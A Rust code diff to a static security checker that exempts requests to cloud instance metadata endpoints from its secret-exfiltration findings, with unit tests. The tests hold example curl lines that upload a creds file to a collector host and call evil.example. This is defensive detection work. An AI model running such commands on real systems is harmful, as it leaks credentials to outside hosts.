@@ -35,6 +35,10 @@ pub fn check(scx: &mut SecCx<'_, '_>) {
         .signals
         .iter()
         .filter(|s| matches!(s.kind, SignalKind::NetworkSend | SignalKind::ExfilEndpoint))
+        .filter(|s| {
+            s.kind == SignalKind::ExfilEndpoint
+                || !to_instance_metadata(&scx.sources[s.source].text, s.offset)
+        })
         .cloned()
         .collect();
     if reads.is_empty() || sends.is_empty() {
@@ -104,5 +108,57 @@ pub fn check(scx: &mut SecCx<'_, '_>) {
     );
     if let Some(f) = scx.cx.findings.last_mut() {
         f.severity = severity;
+    }
+}
+
+/// The cloud instance metadata services: a request to them stays on the machine's own
+/// link-local network (IMDSv2's `curl -X PUT …/latest/api/token` asks for a session token).
+const METADATA_HOSTS: &[&str] = &[
+    "169.254.169.254",
+    "169.254.170.2",
+    "metadata.google.internal",
+    "[fd00:ec2::254]",
+    "100.100.100.200",
+];
+
+/// Is the send at `offset` a request to an instance metadata service and nowhere else? Reads
+/// the statement: its line and up to 3 `\`-continued lines, at most 2,000 bytes.
+fn to_instance_metadata(text: &str, offset: usize) -> bool {
+    let start = text[..offset.min(text.len())]
+        .rfind('\n')
+        .map_or(0, |i| i + 1);
+    let mut end = start;
+    for _ in 0..4 {
+        let next = text[end..].find('\n').map_or(text.len(), |i| end + i);
+        end = next;
+        if !text[start..end].trim_end().ends_with('\\') || end >= text.len() || end - start > 2000 {
+            break;
+        }
+        end += 1;
+    }
+    let mut stmt = &text[start..end.min(start + 2000).min(text.len())];
+    while !text.is_char_boundary(start + stmt.len()) {
+        stmt = &stmt[..stmt.len() - 1];
+    }
+    let urls = stmt.matches("://").count();
+    let meta = METADATA_HOSTS
+        .iter()
+        .map(|h| stmt.matches(&format!("://{h}")).count())
+        .sum::<usize>();
+    meta > 0 && meta == urls
+}
+
+#[cfg(test)]
+mod tests {
+    use super::to_instance_metadata;
+
+    #[test]
+    fn a_request_to_the_metadata_service_stays_on_the_machine() {
+        let t = "TOKEN=$(curl -X PUT -H \"X-aws-ec2-metadata-token-ttl-seconds: 21600\" \\\n  \"http://169.254.169.254/latest/api/token\")\n";
+        assert!(to_instance_metadata(t, 8));
+        let out = "curl -X PUT -d @creds https://collector.example.net/u\n";
+        assert!(!to_instance_metadata(out, 0));
+        let both = "curl -X PUT http://169.254.169.254/x https://evil.example/y\n";
+        assert!(!to_instance_metadata(both, 0));
     }
 }
